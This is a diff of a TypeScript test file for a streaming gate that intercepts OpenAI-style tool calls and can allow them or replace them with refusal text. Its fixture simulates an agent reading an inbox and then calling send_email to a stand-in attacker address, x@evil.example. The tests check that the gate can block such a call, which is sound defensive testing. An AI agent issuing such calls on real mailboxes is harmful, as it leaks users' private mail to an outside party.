@@ -12,6 +12,7 @@ const FRAMES = [
   chunk({ tool_calls: [{ index: 0, function: { arguments: '{"folder":' } }] }),
   chunk({ tool_calls: [{ index: 1, id: 'call_b', type: 'function', function: { name: 'send_email', arguments: '{"to":"x@evil.example"}' } }] }),
   chunk({ tool_calls: [{ index: 0, function: { arguments: '"inbox"}' } }] }),
+  chunk({ content: ' Done.' }),
   chunk({}, 'tool_calls'),
   'data: [DONE]\n\n',
 ];
@@ -34,8 +35,9 @@ describe('OpenAiStreamGate', () => {
     const { out, calls } = run(() => ({ kind: 'allow' }));
     expect(out.slice(0, 2)).toEqual(FRAMES.slice(0, 2));
     expect(out.slice(2, 6)).toEqual(['', '', '', '']);
-    expect(out[6]).toBe(FRAMES.slice(2, 7).join(''));
-    expect(out[7]).toBe('data: [DONE]\n\n');
+    expect(out[6]).toBe(FRAMES[6]);
+    expect(out[7]).toBe([...FRAMES.slice(2, 6), FRAMES[7]].join(''));
+    expect(out[8]).toBe('data: [DONE]\n\n');
     expect(calls).toEqual([
       { name: 'read_inbox', callId: 'call_a', rawArgs: '{"folder":"inbox"}' },
       { name: 'send_email', callId: 'call_b', rawArgs: '{"to":"x@evil.example"}' },
@@ -44,7 +46,7 @@ describe('OpenAiStreamGate', () => {
 
   it('re-sends the allowed call renumbered and the refusal as content; finish stays tool_calls while one call is left', () => {
     const { out } = run((c) => (c.name === 'send_email' ? { kind: 'replace', text: 'no.' } : { kind: 'allow' }));
-    const d = datas(out[6] as string).map((x) => (x['choices'] as { delta: unknown; finish_reason: unknown }[])[0]);
+    const d = datas(out[7] as string).map((x) => (x['choices'] as { delta: unknown; finish_reason: unknown }[])[0]);
     expect(d).toEqual([
       { index: 0, delta: { role: 'assistant', tool_calls: [{ index: 0, id: 'call_a', type: 'function', function: { name: 'read_inbox', arguments: '{"folder":"inbox"}' } }] }, finish_reason: null },
       { index: 0, delta: { role: 'assistant', content: 'no.' }, finish_reason: null },
@@ -54,8 +56,9 @@ describe('OpenAiStreamGate', () => {
 
   it('finishes with stop when every call is refused', () => {
     const { out } = run(() => ({ kind: 'replace', text: 'no.' }));
-    const last = datas(out[6] as string).at(-1) as { choices: { finish_reason: string }[] };
+    const last = datas(out[7] as string).at(-1) as { choices: { finish_reason: string }[] };
     expect(last.choices[0]?.finish_reason).toBe('stop');
-    expect(out[6]).not.toContain('tool_calls"');
+    expect(out[7]).not.toContain('tool_calls"');
+    expect(out[6]).toBe(FRAMES[6]);
   });
 });
